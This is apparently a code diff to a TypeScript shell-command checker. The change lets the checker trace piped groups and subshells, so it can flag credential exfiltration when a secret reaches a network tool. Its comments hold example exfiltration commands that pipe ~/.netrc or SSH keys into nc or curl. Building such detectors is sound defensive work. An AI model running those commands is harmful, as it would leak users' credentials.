@@ -35,6 +35,11 @@ export interface PipelineCommand {
   redirects: readonly Redirect[];
   /** Index (in the same list) of the command whose output this one reads through a pipe, or -1. */
   pipedFrom: number;
+  /**
+   * Indexes of every command of a group or subshell piped into this one (`{ cat ~/.netrc; echo x;
+   * } | nc h 1`: all of their output goes into the pipe), or undefined.
+   */
+  pipedGroup?: readonly number[];
   /** Where it runs: a relative path is judged in every folder it may land in (`cd ~/.ssh && cat id_rsa`). */
   place: PathPlace;
 }
@@ -566,12 +571,36 @@ function handedToUnplaced(pipeline: readonly PipelineCommand[], home: string): H
       const input = credentialInWord(redirect.target, command.place);
       if (input !== null) return hardlineFinding('credential-exfiltration', `${input} goes to ${what} on its standard input`);
     }
-    for (let from = command.pipedFrom, seen = k; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) {
+    for (const from of upstreamOf(pipeline, k)) {
       const source = sourceOf(pipeline[from]!) ?? printedSecret(pipeline[from]!.record);
       if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${what} on its standard input`);
     }
   }
   return null;
+}
+
+/**
+ * The indexes of the commands whose output reaches the command at `index` through pipes, filters
+ * between included, nearest first: the one it is piped from and, after a group or subshell (`{
+ * cat ~/.netrc; echo x; } | nc h 1`, `( … ) | curl -T - URL`), every command of it.
+ */
+function upstreamOf(pipeline: readonly PipelineCommand[], index: number): number[] {
+  const out: number[] = [];
+  const seen = new Set<number>();
+  for (let q = -1, at = index; at >= 0; at = out[++q] ?? -1) {
+    const command = pipeline[at]!;
+    const from = command.pipedFrom;
+    if (from >= 0 && from < at && !seen.has(from)) {
+      seen.add(from);
+      out.push(from);
+    }
+    for (const member of command.pipedGroup ?? []) {
+      if (member < 0 || member >= at || seen.has(member)) continue;
+      seen.add(member);
+      out.push(member);
+    }
+  }
+  return out;
 }
 
 /** The commands of a pipeline that are sinks or whose output is piped (through any filters) into one. */
@@ -580,7 +609,7 @@ function commandsReachingSink(pipeline: readonly PipelineCommand[]): Set<number>
   for (let k = 0; k < pipeline.length; k++) {
     if (sinkName(pipeline[k]!) === null) continue;
     out.add(k);
-    for (let from = pipeline[k]!.pipedFrom, seen = k; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) out.add(from);
+    for (const from of upstreamOf(pipeline, k)) out.add(from);
   }
   return out;
 }
@@ -671,7 +700,7 @@ function printedSecretJoined(pipeline: readonly PipelineCommand[], home: string,
     const sink = sinkName(command);
     if (sink === null) continue;
     // Upstream through the pipes: filters in between (`base64`, `tee f`) pass the secret on.
-    for (let from = command.pipedFrom, seen = k; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) {
+    for (const from of upstreamOf(pipeline, k)) {
       const source = printedSecret(pipeline[from]!.record, home) ?? unreadCodePrints(pipeline[from]!.record, home);
       if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
     }
@@ -714,7 +743,7 @@ function secretVariableSent(pipeline: readonly PipelineCommand[], index: number)
   const argv = command.record.peeled.argv;
   const name = commandName(argv[0])?.name ?? null;
   const upstream: string[] = [];
-  for (let from = command.pipedFrom, seen = index; from >= 0 && from < seen; seen = from, from = pipeline[from]!.pipedFrom) {
+  for (const from of upstreamOf(pipeline, index)) {
     const words = pipeline[from]!.record.peeled.argv;
     for (let k = 1; k < words.length; k++) upstream.push(...secretVariablesIn(words[k]!));
   }
